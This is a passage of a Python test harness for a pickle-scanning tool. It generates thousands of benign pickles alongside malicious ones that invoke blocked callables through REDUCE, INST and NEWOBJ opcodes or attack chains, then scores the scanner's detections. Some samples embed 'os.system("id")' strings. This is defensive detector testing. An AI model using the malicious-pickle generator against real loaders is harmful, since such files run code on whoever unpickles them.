    lambda h: datetime.datetime(2024, 7, 1, tzinfo=zoneinfo.ZoneInfo('Europe/Berlin')), lambda h: decimal.Decimal('3.1400'), lambda h: decimal.Decimal('NaN'),
    lambda h: decimal.Context(prec=9), lambda h: fractions.Fraction(22, 7), lambda h: uuid.UUID(int=h.r.getrandbits(128)), lambda h: pathlib.PurePosixPath('/etc/passwd'),
    lambda h: pathlib.PureWindowsPath('C:/x'), lambda h: pathlib.Path('a/b'), lambda h: ipaddress.ip_address('192.0.2.1'), lambda h: ipaddress.ip_address('2001:db8::1'),
    lambda h: ipaddress.ip_network('10.0.0.0/8'), lambda h: ipaddress.ip_interface('10.1.2.3/24'), lambda h: collections.OrderedDict(a=1, b=h.text()),
    lambda h: collections.Counter('abracadabra'), lambda h: collections.defaultdict(int, a=1), lambda h: collections.defaultdict(set), lambda h: collections.defaultdict(dict),
    lambda h: collections.deque([1, 2, 3], 5), lambda h: collections.ChainMap({'a': 1}, {'b': 2}), lambda h: collections.UserDict(a=1), lambda h: collections.UserList([1]),
    lambda h: collections.UserString('x'), lambda h: re.compile(r'(\d+)\s*system', re.I), lambda h: re.compile(rb'\x80\x04'), lambda h: ValueError('x', 1), lambda h: KeyError('k'),
    lambda h: OSError(2, 'No such file', '/etc/x'), lambda h: FileNotFoundError(2, 'no', 'f'), lambda h: UnicodeDecodeError('utf-8', b'\xff', 0, 1, 'bad'),
    lambda h: StopIteration(3), lambda h: SystemExit(1), lambda h: ImportError('no', name='os', path='/x'), lambda h: AttributeError('a'), lambda h: json.JSONDecodeError('m', 'doc', 0),
    lambda h: ExceptionGroup('g', [ValueError(1), TypeError(2)]) if hasattr(__builtins__, 'ExceptionGroup') or sys.version_info >= (3, 11) else None,
    with_notes, raised, lambda h: subprocess.CalledProcessError(1, ['git', 'pull'], b'out', b'err'), lambda h: subprocess.TimeoutExpired('sleep', 3),
    lambda h: subprocess.CompletedProcess(['ls'], 0, b'', b''), lambda h: functools.partial(int, base=2), lambda h: functools.partial(sorted, reverse=True),
    lambda h: functools.partial(round, ndigits=2), lambda h: functools.partial(str.split, sep=','), lambda h: functools.partial(max, 3), lambda h: types.SimpleNamespace(a=1),
    lambda h: slice(1, None, 2), lambda h: range(0, 10, 3), lambda h: 1 + 2j, lambda h: array.array('d', [1.5, 2]), lambda h: array.array('u', 'text') if sys.version_info < (3, 13) else 0,
    lambda h: array.array('q', range(9)), lambda h: bytearray(b'abc'), lambda h: random.Random(4), lambda h: log_record(h), mail, cookies, cookie_jar, config,
    lambda h: email.message.Message(), lambda h: email.headerregistry.Address('A', 'a', 'example.com'), lambda h: argparse.Namespace(verbose=True, cmd='run'),
    lambda h: optparse.Values({'a': 1}), lambda h: time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)), lambda h: os.stat_result(range(10)), lambda h: os.terminal_size((80, 24)),
    lambda h: os.times_result((1.0, 2.0, 3.0, 4.0, 5.0)), lambda h: http.HTTPStatus.NOT_FOUND, lambda h: socket.AddressFamily.AF_INET, lambda h: socket.SocketKind.SOCK_STREAM,
    lambda h: re.IGNORECASE | re.MULTILINE, lambda h: stat.filemode, lambda h: urllib.parse.urlparse('http://x/y?z'), lambda h: urllib.parse.urlsplit('http://x/y?z'),
    lambda h: urllib.request.Request('http://example.com/', headers={'A': 'b'}), lambda h: urllib.error.URLError('r'), lambda h: statistics.NormalDist(1, 2), lambda h: string.Template('$x'),
    lambda h: string.Formatter(), lambda h: textwrap.TextWrapper(width=30), lambda h: difflib.Match(1, 2, 3), lambda h: difflib.SequenceMatcher(None, 'ab', 'ac'),
    lambda h: inspect.Parameter('x', inspect.Parameter.KEYWORD_ONLY, default=3), lambda h: inspect.signature(textwrap.dedent), lambda h: inspect.FullArgSpec([], None, None, None, [], {}, {}),
    lambda h: tokenize.TokenInfo(1, 'x', (1, 0), (1, 1), 'x'), lambda h: traceback.FrameSummary('f.py', 3, 'f', lookup_line=False, line='os.system("id")'),
    lambda h: traceback.StackSummary.from_list([('f.py', 1, 'f', 'x')]), lambda h: xml.etree.ElementTree.fromstring('<a b="c"><d>t</d></a>'), lambda h: xml.dom.minidom.parseString('<a><b/></a>'),
    lambda h: xmlrpc.client.Binary(b'x'), lambda h: xmlrpc.client.DateTime('20240101T00:00:00'), lambda h: xmlrpc.client.Fault(1, 'x'), lambda h: zipfile.ZipInfo('a.txt'), lambda h: tarfile.TarInfo('a'),
    lambda h: ast.parse('import os\nos.system("id")'), lambda h: ast.parse('1 + x', mode='eval'), lambda h: calendar.TextCalendar(), lambda h: logging.Formatter('%(message)s'), lambda h: LOGGER,
    lambda h: unittest.TestResult() if False else unittest.SkipTest('x'), lambda h: typing.Optional[int], lambda h: typing.Dict[str, typing.List[int]], lambda h: list[int], lambda h: dict[str, tuple[int, ...]],
    lambda h: int | None, lambda h: typing.Callable[[int], str], lambda h: typing.Any, lambda h: typing.Literal['a', 1], lambda h: NotImplemented, lambda h: Ellipsis, lambda h: type(None),
    lambda h: [int, str, dict, object, type, Exception], lambda h: type(Ellipsis), lambda h: itertools.count(5, 2), lambda h: itertools.chain([1], [2]), lambda h: itertools.repeat('x', 3),
    lambda h: itertools.islice([1, 2, 3], 2), lambda h: itertools.product([1, 2], [3]), lambda h: itertools.permutations([1, 2, 3]), lambda h: itertools.cycle([1, 2]), lambda h: iter([1, 2]),
    lambda h: iter({1, 2}), lambda h: iter({'a': 1}), lambda h: iter('abc'), lambda h: iter(range(3)), lambda h: enumerate(['a']), lambda h: zip([1], [2]), lambda h: reversed([1, 2]), lambda h: map(len, ['ab']),
    lambda h: map(str, [1]), lambda h: filter(None, [0, 1]), lambda h: len, lambda h: sorted, lambda h: math.sin, lambda h: operator.add, lambda h: operator.itemgetter(1, 2), lambda h: operator.attrgetter('name', 'a.b'),
    lambda h: operator.methodcaller('strip'), lambda h: operator.methodcaller('split', ','), lambda h: json.dumps, lambda h: json.loads, lambda h: statistics.mean, lambda h: str.upper, lambda h: [].append, lambda h: 'abc'.upper,
    lambda h: {}.get, lambda h: ','.join, lambda h: dict.fromkeys, lambda h: datetime.datetime.fromisoformat, lambda h: os.path.join, lambda h: os.path.basename, lambda h: re.escape, lambda h: textwrap.dedent, lambda h: math.hypot,
    lambda h: random.Random(3).choice, lambda h: hashlib.sha256 and 0, lambda h: uuid.uuid4, lambda h: time.time, lambda h: datetime.datetime.now, lambda h: collections.Counter, lambda h: decimal.Decimal,
    lambda h: collections.OrderedDict.fromkeys, lambda h: functools.reduce, lambda h: html.escape, lambda h: urllib.parse.quote, lambda h: base64.b64encode, lambda h: zlib.crc32, lambda h: struct.pack, lambda h: print,
    lambda h: bytes.fromhex, lambda h: int.from_bytes, lambda h: str.maketrans, lambda h: abs, lambda h: operator.mul, lambda h: statistics.median, lambda h: shlex.quote, lambda h: calendar.Month.MAY if hasattr(calendar, 'Month') else 5,
    lambda h: decimal.ROUND_HALF_UP, lambda h: decimal.getcontext(), lambda h: shutil.Error('x'), lambda h: socket.timeout('x'), lambda h: pickle.PicklingError('x'), lambda h: sqlite3.OperationalError('no such table'),
    lambda h: os.DirEntry if False else os.PathLike, lambda h: pathlib.Path, lambda h: enum.Enum, lambda h: tempfile.SpooledTemporaryFile if False else tempfile.TemporaryDirectory and 1, lambda h: zipfile.BadZipFile('x'),
    lambda h: http.cookies.Morsel(), lambda h: email.policy.default, lambda h: inspect.Parameter.VAR_POSITIONAL, lambda h: logging.StrFormatStyle if False else logging.PercentStyle('%(message)s'), lambda h: string.capwords,
]


def nd(h, shape, code, raw):
    p = PACKAGES
    core = h.r.choice(['numpy.core.multiarray', 'numpy._core.multiarray'])
    dtype = p.built(p.name('numpy', 'dtype'), (code, False, True), (3, '<' if code[0] in 'fi' and code != 'i1' else '|', None, None, None, -1, -1, 0))
    return p.built(p.name(core, '_reconstruct', True), (p.name('numpy', 'ndarray'), (0,), b'b'), (1, shape, dtype, False, raw))


def scalar_of(h):
    p = PACKAGES
    core = h.r.choice(['numpy.core.multiarray', 'numpy._core.multiarray'])
    dtype = p.built(p.name('numpy', 'dtype'), ('f8', False, True), (3, '<', None, None, None, -1, -1, 0))
    return p.built(p.name(core, 'scalar', True), (dtype, struct.pack('<d', h.r.random())))


def estimator(h):
    p = PACKAGES
    module, name = h.r.choice([('sklearn.linear_model._logistic', 'LogisticRegression'), ('sklearn.preprocessing._data', 'StandardScaler'),
                               ('sklearn.linear_model._base', 'LinearRegression'), ('sklearn.cluster._kmeans', 'KMeans'),
                               ('sklearn.svm._classes', 'SVC'), ('sklearn.pipeline', 'Pipeline'), ('sklearn.decomposition._pca', 'PCA'),
                               ('sklearn.ensemble._forest', 'RandomForestClassifier'), ('sklearn.feature_extraction.text', 'TfidfVectorizer'),
                               ('sklearn.neighbors._classification', 'KNeighborsClassifier'), ('sklearn.naive_bayes', 'GaussianNB')])
    return p.instance(module, name, C=1.0, coef_=nd(h, (2,), 'f8', struct.pack('<2d', 1, 2)), _sklearn_version='1.4.2')


def tensor_state(h):
    """An OrderedDict of tensors whose storages come from persistent ids is written by torch only inside its zip."""
    p = PACKAGES
    rebuild = p.name('torch._utils', '_rebuild_parameter', True)
    inner = p.built(p.name('torch', 'Size'), ((2, 3),))
    return {'size': inner, 'device': p.built(p.name('torch', 'device'), ('cpu',)), 'dtype': p.name('torch', 'float32') and 0}


def web_things(h):
    p = PACKAGES
    return h.r.choice([
        lambda: p.built(p.name('django.utils.safestring', 'SafeString'), ('<b>x</b>',)),
        lambda: p.instance('requests.structures', 'CaseInsensitiveDict', _store=collections.OrderedDict()),
        lambda: p.built(p.name('pytz', '_UTC', True), ()),
        lambda: p.built(p.name('pytz', '_p', True), ('Europe/Berlin', 3180, 0, 'LMT')),
        lambda: p.instance('dateutil.tz.tz', 'tzutc'),
        lambda: p.instance('networkx.classes.graph', 'Graph', _node={1: {}}, _adj={1: {2: {}}}),
        lambda: p.built(p.name('pandas._libs.tslibs.timestamps', '_unpickle_timestamp', True), (1700000000000000000, None, None, 10)),
    ])()


PACKAGE_VALUES = [
    lambda h: nd(h, (3,), 'f8', struct.pack('<3d', 1, 2, h.r.random())), lambda h: nd(h, (2, 2), 'i4', struct.pack('<4i', 1, 2, 3, 4)),
    lambda h: nd(h, (4,), 'b1', b'\1\0\1\0'), scalar_of, estimator, tensor_state, web_things,
    lambda h: {'X': nd(h, (1,), 'f4', b'\0\0\0\0'), 'n': scalar_of(h)},
]


# ---------------------------------------------------------------------------------------------
# Files.

def write(r, value):
    """A value as one of the two picklers writes it; None if it does not pickle."""
    protocol = r.randrange(6)
    how = r.random()
    try:
        if how < 0.5:
            raw = pickle.dumps(value, protocol)
        else:
            out = io.BytesIO()
            pickler = pickle._Pickler(out, protocol)
            pickler.dump(value)
            raw = out.getvalue()
        if how > 0.95:
            import pickletools
            raw = pickletools.optimize(raw)
        return raw
    except Exception:
        return None


# Their modules are of another Python than the one that runs this.
ELDER = set("""__builtin__ commands popen2 urllib2 httplib xmlrpclib SocketServer BaseHTTPServer thread
cPickle new dl hotshot rexec compiler anydbm dumbdbm bsddb whichdb robotparser _winreg annotationlib
_interpreters _xxsubinterpreters test""".split())

# The name of a class, or of a function, from a package that is not Python's own is a plain thing to
# keep, and so is an object of the class that NEWOBJ makes: only a call of it does what it can do.
NO_CALLS = [call_not, call_newobj, call_newobj_ex, call_copyreg_newobj, call_reconstructor,
            call_defaultdict]


def is_of_python(module):
    top = module.split('.')[0]
    return top in sys.stdlib_module_names or top in ELDER


def harmful(r, block_rows, k):
    """One harmful file: (bytes, names that must be found, the least level, what it is)."""
    least = 2
    protocol = r.choice([0, 1, 2, 3, 4, 4, 4, 5])
    a = Asm(r, protocol)
    label = []
    if r.random() < 0.3:
        chain = r.choice(CHAINS)
        label.append(chain.__name__)
        # Only the loading program knows what a code stands for.
        if chain is chain_extension:
            least = 1

        def body():
            chain(a)
    else:
        block, module, name = block_rows[k % len(block_rows)]
        arguments = r.choice(ARGUMENTS[block])
        if block == 'control':
            arguments = CONTROL_ARGUMENTS.get(name, arguments)
        a.names = [(module, name)]
        label.append(module + ' ' + name)
        if '.' not in name and r.random() < 0.12:
            label.append('INST')

            def body():
                a.op(b'(')
                for x in arguments:
                    a.value(x)
                a.op(b'i', module.encode(), b'\n', name.encode(), b'\n')
        else:
            calls = CALLS if block != 'control' else [call_reduce, call_obj]
            if not is_of_python(module):
                calls = [x for x in calls if x not in NO_CALLS]
            call = r.choice(calls)
            naming = r.choice(NAMINGS_OF_LITERALS if '.' in name else NAMINGS)
            label += [naming.__name__, call.__name__]

            def body():
                call(a, lambda: naming(a, module, name), arguments)
    place = r.choice(PLACES)
    end = r.choice(ENDS)
    if label[0] == 'chain_bomb':
        # What is thrown away, or not made at all, nobody walks.
        place, end = r.choice([place_top, place_list, place_append, place_value]), end_plain
    label.append(place.__name__)
    place(a, body)
    label.append(end.__name__)
    raw = end(r, bytes(a.out), protocol)
    names = list(a.names)
    if r.random() < 0.25 and end in (end_plain, end_framed, end_no_proto):
        for _ in range(r.choice([1, 1, 2])):
            packing = r.choice(list(PACKINGS))
            # Behind a head of somebody's own a pickle is found by its PROTO.
            if packing == 'prefixed' and raw[:2] not in (b'\x80\x03', b'\x80\x04', b'\x80\x05'):
                packing = 'raw'
            label.append(packing)
            packed = PACKINGS[packing](raw)
            raw = write(r, Holder.of(r, packed)) or pickle.dumps([packed], 4)
    elif r.random() < 0.15:
        kind = r.choice(list(FILES))
        label.append('file:' + kind)
        raw = FILES[kind](raw)
    return raw, names, least, ' '.join(label)


def harmless(r):
    while True:
        h = Harmless(r)
        kind = r.choice(['plain', 'stdlib', 'stdlib', 'stdlib', 'stdlib', 'program', 'own', 'package', 'text'])
        if kind == 'plain':
            value = h.plain()
        elif kind == 'stdlib':
            value = h.stdlib() if r.random() < 0.5 else h.mixed(lambda: h.stdlib() if r.random() < 0.6 else h.scalar())
        elif kind == 'program':
            value = h.program_data()
        elif kind == 'own':
            value = h.mixed(lambda: h.own() if r.random() < 0.6 else h.stdlib())
        elif kind == 'package':
            value = h.mixed(lambda: h.package() if r.random() < 0.6 else h.scalar())
        else:
            value = h.mixed(lambda: h.text() if r.random() < 0.6 else h.blob())
        raw = write(r, value)
        if raw is None:
            continue
        label = kind + ' ' + repr(type(value)) + ' ' + re.sub(r'\s+', ' ', ascii(value))[:160]
        if r.random() < 0.08:
            name = r.choice(list(FILES))
            label += ' file:' + name
            raw = FILES[name](raw)
        elif r.random() < 0.03:
            raw += write(r, h.plain()) or b''
            label += ' two'
        return raw, kind in ('own', 'package') or h.unknown, label


def make(folder, seed, count):
    r = random.Random(seed)
    block_rows = rows()
    r.shuffle(block_rows)
    expected = {}
    for k in range(count):
        if k % 5 < 3:
            raw, names, least, label = harmful(r, block_rows, k // 5 * 3 + k % 5)
            what = {'harmful': True, 'names': names, 'least': least, 'label': label}
        else:
            raw, unknown, label = harmless(r)
            what = {'harmful': False, 'unknown': unknown, 'label': label}
        name = '%05d.bin' % k
        with open(os.path.join(folder, name), 'wb') as f:
            f.write(raw)
        expected[name] = what
    return expected


LEVELS = ['innocuous', 'unknown', 'suspicious', 'dangerous']


def judge(program, folder, expected):
    """Scan the folder and compare: a list of (file, what is wrong, label)."""
    environment = dict(os.environ, XDG_CONFIG_HOME=os.path.join(folder, 'none'))
    done = subprocess.run([program, 'scan', '--jsonl', folder], stdout=subprocess.PIPE, env=environment)
    if done.returncode not in (0, 1, 2):
        raise SystemExit('scan ended with status %d' % done.returncode)
    found = {}
    for line in done.stdout.decode().splitlines():
        row = json.loads(line)
        name = os.path.basename(row['address'].split('!')[0])
        found.setdefault(name, []).append(row)
    wrong = []
    for name, want in expected.items():
        lines = found.get(name, [])
        # An error's line has no level; what cannot be read is not clean, and not a miss of this test.
        level = max((LEVELS.index(x['level']) for x in lines if x.get('level') in LEVELS), default=-1)
        if want['harmful']:
            if level < want['least']:
                wrong.append((name, 'MISS: %s' % (LEVELS[level] if level >= 0 else 'no pickle found'), want['label']))
                continue
            seen = {(c['module'], c['name']) for x in lines for c in x.get('callables', [])}
            said = [f['message'] for x in lines for f in x.get('findings', []) if f['level'] in LEVELS[2:]]
            named = [any(m + '.' + n in text for text in said) for m, n in want['names']]
            for (module, far), is_said in zip(want['names'], named):
                if (module, far) not in seen and not is_said:
                    wrong.append((name, 'NAME: %s %s is not among the callables' % (module, far), want['label']))
            if named and not any(named):
                wrong.append((name, 'NAME: no finding says %s.%s' % tuple(want['names'][0]), want['label']))
        elif level >= (2 if want['unknown'] else 1):
            why = [(f['rule'], f['message'][:200]) for x in lines for f in x.get('findings', []) if f['level'] in LEVELS[1:]]
            wrong.append((name, 'ALARM: %s %s' % (LEVELS[level], why[:2]), want['label']))
        elif level < 0 and 'file:b64' not in want['label']:
            wrong.append((name, 'NOT FOUND', want['label']))
    return wrong


def main():
    arguments = sys.argv[1:]
    if arguments and arguments[0] == '--write':
        folder, seed, count = arguments[1], int((arguments + [None, None, '20240611'])[2] or 1), int((arguments[3:] or [2000])[0])
        os.makedirs(folder, exist_ok=True)
        expected = make(folder, seed, count)
        with open(os.path.join(folder, 'expected.json'), 'w') as f:
            json.dump(expected, f, indent=1)
        return
    program = arguments[0]
    seed = int(arguments[1]) if len(arguments) > 1 else 1
    count = int(arguments[2]) if len(arguments) > 2 else 2000
    with tempfile.TemporaryDirectory() as folder:
        expected = make(folder, seed, count)
        wrong = judge(program, folder, expected)
        harmful_count = sum(x['harmful'] for x in expected.values())
        for row in wrong:
            print(*row, sep='\t')
        print('%d files with seed %d: %d harmful, %d harmless; %d wrong' % (len(expected), seed, harmful_count, len(expected) - harmful_count, len(wrong)))
        raise SystemExit(bool(wrong))


if __name__ == '__main__':
    main()
